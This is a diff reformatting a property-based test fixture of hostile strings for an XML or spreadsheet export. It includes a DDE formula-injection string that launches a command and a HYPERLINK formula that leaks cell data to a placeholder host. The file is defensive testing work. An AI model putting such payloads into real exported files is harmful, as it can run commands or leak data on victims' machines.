@@ -19,12 +19,52 @@ export function strictXmlText(xml: string): string[] {
 }
 
 const SPECIALS = [
-  '&', '<', '>', '"', "'", '&amp;', ']]>', '<!--', '<![CDATA[', '=', '+', '-', '@', ' ', "=cmd|' /C calc'!A0",
-  '\u0000', '\u0001', '\u0008', '\u000b', '\u000c', '\u001b', '\u001f', '\t', '\r', '\n', '\u007f', '\u0085', '\u2028',
-  '😀', '👩🏽‍⚕️', 'مستشفى', 'בית חולים', '\u202e', '\u200f', '\ufeff', '\ufffe', '\uffff', '\ud800', '\udfff',
+  '&',
+  '<',
+  '>',
+  '"',
+  "'",
+  '&amp;',
+  ']]>',
+  '<!--',
+  '<![CDATA[',
+  '=',
+  '+',
+  '-',
+  '@',
+  ' ',
+  "=cmd|' /C calc'!A0",
+  '\u0000',
+  '\u0001',
+  '\u0008',
+  '\u000b',
+  '\u000c',
+  '\u001b',
+  '\u001f',
+  '\t',
+  '\r',
+  '\n',
+  '\u007f',
+  '\u0085',
+  '\u2028',
+  '😀',
+  '👩🏽‍⚕️',
+  'مستشفى',
+  'בית חולים',
+  '\u202e',
+  '\u200f',
+  '\ufeff',
+  '\ufffe',
+  '\uffff',
+  '\ud800',
+  '\udfff',
   "St. Mary's Hospital & Medical Center"
 ]
-const hostile = fc.string({ unit: fc.oneof(fc.constantFrom(...SPECIALS), fc.string({ unit: 'binary', minLength: 1, maxLength: 1 })), minLength: 1, maxLength: 10 })
+const hostile = fc.string({
+  unit: fc.oneof(fc.constantFrom(...SPECIALS), fc.string({ unit: 'binary', minLength: 1, maxLength: 1 })),
+  minLength: 1,
+  maxLength: 10
+})
 export const hostileTexts: fc.Arbitrary<FixtureTexts> = fc.record({
   names: fc.uniqueArray(hostile, { minLength: 4, maxLength: 4 }),
   posts: fc.array(hostile, { minLength: 2, maxLength: 2 }),
@@ -33,7 +73,12 @@ export const hostileTexts: fc.Arbitrary<FixtureTexts> = fc.record({
 
 /** One fixed set, for the slow checks (LibreOffice) and as a regression example for the property runs. */
 export const ADVERSARIAL: FixtureTexts = {
-  names: ["St. Mary's Hospital & Medical Center", 'A <b>bold</b> "clinic"', 'مستشفى 😀 \u202eRTL', 'Ctrl\u0000\u0001\u000b\u001fChars\r\n'],
+  names: [
+    "St. Mary's Hospital & Medical Center",
+    'A <b>bold</b> "clinic"',
+    'مستشفى 😀 \u202eRTL',
+    'Ctrl\u0000\u0001\u000b\u001fChars\r\n'
+  ],
   posts: ['=HYPERLINK("http://x/?leak="&A2,"click")', '<script>&amp;\ud800'],
   source: 'R&D <exports>.csv'
 }
